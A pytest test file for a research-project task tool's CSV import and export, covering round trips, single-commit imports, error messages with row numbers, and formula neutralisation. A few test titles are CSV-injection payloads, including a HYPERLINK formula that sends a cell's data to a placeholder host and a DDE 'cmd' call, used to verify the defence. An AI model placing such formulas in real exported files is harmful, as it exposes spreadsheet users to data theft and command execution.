"""CSV import and export: round trips, all-or-nothing, row numbers in errors."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prosper_coop.core.errors import ExitCode, InvalidInputError, ValidationError
from prosper_coop.core.localconfig import local_actor
from prosper_coop.core.study import Study
from prosper_coop.tasks import csvio, ops
from prosper_coop.workspace import create_study
from tests.helpers import git, head
from tests.tasks.example_tasks import load_tasks, next_task_id, task_count

TODAY = dt.date(2026, 11, 26)


def _unchanged(study: Study, head: str) -> None:
    assert git(study, "rev-parse", "HEAD").strip() == head
    assert git(study, "status", "--porcelain") == ""


def _study_without_tasks(path: Path) -> Study:
    study = Study(create_study(path, title=None, example="prosper").root, actor=local_actor)
    with study.change("task", "remove all tasks") as change:
        for file in sorted((study.root / "tasks").rglob("T-*.yaml")):
            change.delete(study.rel(file))
    return study


def test_export_then_import_reproduces_the_same_tasks(example_study: Study, sealed_env) -> None:
    ops.add_note(example_study, "T-0013", 'Called the commissioner, "no reply", will retry\nFriday')
    ops.edit_task(example_study, "T-0021", today=TODAY, due=None, owner=None)
    original = csvio.export_tasks(example_study, "json")
    count = task_count(example_study)
    exported = sealed_env / "tasks.csv"
    exported.write_text(csvio.export_tasks(example_study, "csv"), encoding="utf-8")

    other = _study_without_tasks(sealed_env / "other")
    assert csvio.export_tasks(other, "json") == "[]\n"
    before = head(other)
    result = csvio.import_csv(other, exported, today=TODAY)
    assert len(result.added) == count
    assert csvio.export_tasks(other, "json") == original
    # One commit for the whole import.
    log = git(other, "log", "--format=%s", f"{before}..HEAD").splitlines()
    assert log == [
        f"task: import {count} task(s) from tasks.csv (T-0001, T-0002, T-0003, T-0004, T-0005, ...)"
    ]
    # Importing the same file again changes nothing and makes no commit.
    again = csvio.import_csv(other, exported, today=TODAY)
    assert (again.added, again.updated, again.unchanged, again.commit) == ([], [], count, None)


def test_import_updates_and_adds_in_one_commit(example_study: Study, sealed_env) -> None:
    path = sealed_env / "changes.csv"
    path.write_text(
        "id,title,wp,owner,due,tags\n"
        "T-0014,Site 4: interviews with managers,WP3,AC-03,2026-12-21,fieldwork\n"
        ",Share interim findings with co-researchers,WP4,CR-01,2026-12-20,ppi;outputs\n"
        ",Book workshop rooms,WP4,,,\n",
        encoding="utf-8",
    )
    before = head(example_study)
    first = next_task_id(example_study)  # new rows are numbered after the highest task
    second = f"T-{int(first[2:]) + 1:04d}"
    result = csvio.import_csv(example_study, path, today=TODAY)
    assert (result.added, result.updated) == ([first, second], ["T-0014"])
    assert git(example_study, "rev-list", "--count", f"{before}..HEAD").strip() == "1"
    tasks = {t["id"]: t for t in json.loads(csvio.export_tasks(example_study, "json"))}
    assert tasks["T-0014"]["title"] == "Site 4: interviews with managers"
    assert tasks["T-0014"]["depends"] == ["T-0010"]  # columns left out keep their values
    assert tasks[first]["tags"] == ["ppi", "outputs"]
    assert tasks[second]["owner"] is None
    assert tasks[second]["created"] == TODAY.isoformat()


def test_import_of_many_tasks_is_one_commit(empty_study: Study, sealed_env) -> None:
    from prosper_coop.tasks.workpackages import add_wp

    add_wp(empty_study, "WP1", "Everything", start=dt.date(2026, 1, 1), end=dt.date(2027, 12, 31))
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["wp", "title", "depends"])
    for number in range(1, 301):
        writer.writerow(["WP1", f"Task {number}", f"T-{number - 1:04d}" if number > 1 else ""])
    path = sealed_env / "many.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    before = head(empty_study)
    result = csvio.import_csv(empty_study, path, today=TODAY)
    assert len(result.added) == 300
    assert git(empty_study, "rev-list", "--count", f"{before}..HEAD").strip() == "1"
    assert git(empty_study, "status", "--porcelain") == ""


BAD_FILES = [
    ("wp,title,colour\nWP3,A task,blue\n", "row 1: unknown column(s): 'colour'"),
    ("title,owner\nA task,CR-01\n", "row 1: missing column(s): wp"),
    ("wp,title,wp\nWP3,A,WP3\n", "row 1: column(s) given twice: wp"),
    ("", "the file is empty"),
    (
        "wp,title,due\nWP3,Fine,2026-12-01\nWP3,Bad,next week\n",
        "row 3: due: 'next week' is not a date",
    ),
    ("wp,title\nWP3,One\nWP3,Two,extra\n", "row 3: has 3 cell(s) but the header has 2"),
    ("wp,title\nWP3,One\nWP9,Two\n", "row 3: wp: there is no work package 'WP9'"),
    ("wp,title,owner\nWP3,One,CR-99\n", "row 2: owner: there is no person 'CR-99'"),
    ("wp,title,status\nWP3,One,finished\n", "row 2: status: Input should be"),
    ("id,wp,title\nT-0100,WP3,One\nT-0100,WP3,Two\n", "row 3: id: T-0100 is also on row 2"),
    ("id,wp,title\nX-1,WP3,One\n", "row 2: id: 'X-1' is not a task ID"),
    ("wp,title,depends\nWP3,One,T-0999\n", "row 2: depends: there is no task T-0999"),
    (
        "id,wp,title,depends\nT-0100,WP3,One,T-0101\nT-0101,WP3,Two,T-0100\n",
        "dependency cycle: T-0100 -> T-0101 -> T-0100",
    ),
    ("wp,title,notes\nWP3,One,not json\n", "row 2: notes: not in the exported form"),
]


@pytest.mark.parametrize(("text", "message"), BAD_FILES)
def test_bad_files_import_nothing(
    example_study: Study, sealed_env, text: str, message: str
) -> None:
    path = sealed_env / "bad.csv"
    path.write_text(text, encoding="utf-8")
    before = head(example_study)
    with pytest.raises(ValidationError) as caught:
        csvio.import_csv(example_study, path, today=TODAY)
    assert message in str(caught.value)
    assert caught.value.exit_code == ExitCode.INVALID
    assert "bad.csv" in str(caught.value)
    assert "Nothing was imported" in (caught.value.hint or "")
    _unchanged(example_study, before)


def test_wrong_encoding_is_refused(example_study: Study, sealed_env) -> None:
    path = sealed_env / "latin1.csv"
    path.write_bytes("wp,title\nWP3,Caf\u00e9 meeting\n".encode("latin-1"))
    before = head(example_study)
    with pytest.raises(ValidationError, match=r"not UTF-8 text \(row 2"):
        csvio.import_csv(example_study, path, today=TODAY)
    _unchanged(example_study, before)


def test_excel_bom_is_accepted(example_study: Study, sealed_env) -> None:
    path = sealed_env / "excel.csv"
    path.write_bytes("wp,title\r\nWP3,Caf\u00e9 meeting\r\n".encode("utf-8-sig"))
    new_id = next_task_id(example_study)
    assert csvio.import_csv(example_study, path, today=TODAY).added == [new_id]


def test_export_formats(example_study: Study) -> None:
    rows = list(csv.DictReader(io.StringIO(csvio.export_tasks(example_study, "csv", wp="WP5"))))
    assert [r["id"] for r in rows] == ["T-0025", "T-0026", "T-0027"]
    assert rows[0]["depends"] == "T-0015,T-0023"
    assert tuple(rows[0]) == csvio.COLUMNS
    with pytest.raises(InvalidInputError, match="unknown format"):
        csvio.export_tasks(example_study, "xlsx")
    with pytest.raises(InvalidInputError, match="no file"):
        csvio.import_csv(example_study, Path("missing.csv"), today=TODAY)


# -- formulas (OWASP CSV injection) and exact round trips ------------------------------------
HOSTILE_TITLES = {
    "T-0001": '=HYPERLINK("http://e.x/?d="&A1,"Click for details")',
    "T-0002": "+cmd|' /C calc'!A0",
    "T-0003": "@SUM(1+1)",
    "T-0004": "-2+3 people came",
    "T-0005": "'=1+1 was typed with a quote",
    "T-0006": "Plain title, left as it is",
}


def test_formula_cells_are_neutralised_and_come_back_exactly(
    example_study: Study, sealed_env
) -> None:
    for task_id, title in HOSTILE_TITLES.items():
        ops.edit_task(example_study, task_id, today=TODAY, title=title)
    # A cell made elsewhere with a leading tab (a way some tools neutralise formulas)
    # is kept exactly: taking the tab away would make it a formula.
    waiting = next(t for t in load_tasks(example_study) if t.status == "todo")
    typed = sealed_env / "typed.csv"
    typed.write_text(
        f"id,wp,title,status,blocked_reason\n{waiting.id},{waiting.wp},x,blocked,\t=1+1\n",
        encoding="utf-8",
    )
    csvio.import_csv(example_study, typed, today=TODAY)
    waiting = waiting.id
    original = csvio.export_tasks(example_study, "json")
    exported = csvio.export_tasks(example_study, "csv")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported))}
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(csvio.FORMULA_STARTS), cell
    for task_id, title in HOSTILE_TITLES.items():
        expected = title if task_id == "T-0006" else "'" + title
        assert rows[task_id]["title"] == expected
    assert rows[waiting]["blocked_reason"] == "'\t=1+1"

    path = sealed_env / "tasks.csv"
    path.write_text(exported, encoding="utf-8")
    other = _study_without_tasks(sealed_env / "other")
    csvio.import_csv(other, path, today=TODAY)
    assert csvio.export_tasks(other, "json") == original  # the leading tab is kept
    tasks = {t["id"]: t for t in json.loads(original)}
    assert tasks[waiting]["blocked_reason"] == "\t=1+1"


def test_a_quote_typed_in_a_spreadsheet_marks_text(example_study: Study, sealed_env) -> None:
    path = sealed_env / "typed.csv"
    path.write_text("wp,title,blocked_reason\nWP3,'=1+1,'@home\nWP3,'quoted',x\n", "utf-8")
    added = csvio.import_csv(example_study, path, today=TODAY).added
    tasks = {t["id"]: t for t in json.loads(csvio.export_tasks(example_study, "json"))}
    assert [tasks[i]["title"] for i in added] == ["=1+1", "'quoted'"]
    assert tasks[added[0]]["blocked_reason"] == "@home"


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),  # any text a YAML file can hold
    max_size=40,
)
_STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "' ", "\t=", " "])


@given(
    title=st.tuples(_STARTS, _TEXT).map("".join).filter(lambda t: t.strip()),
    reason=st.tuples(_STARTS, _TEXT).map("".join),
)
@settings(max_examples=300, deadline=None)
def test_csv_round_trip_keeps_every_text_exactly(title: str, reason: str) -> None:
    from prosper_coop.tasks.models import Task

    task = Task.model_validate(
        {"id": "T-0001", "wp": "WP1", "title": title, "blocked_reason": reason, "created": TODAY}
    )
    record = task.model_dump(mode="json")
    text = csvio.to_csv([record])
    for line in csv.reader(io.StringIO(text, newline="")):
        for cell in line:
            assert not cell.startswith(csvio.FORMULA_STARTS)
    [(row, cells)] = csvio.read_rows(text, "tasks.csv")
    back = csvio.fields_from_row({"id": "T-0001"}, cells, "tasks.csv", row)
    assert Task.model_validate(back) == task
    assert csvio.restore(csvio.neutralise(reason)) == reason
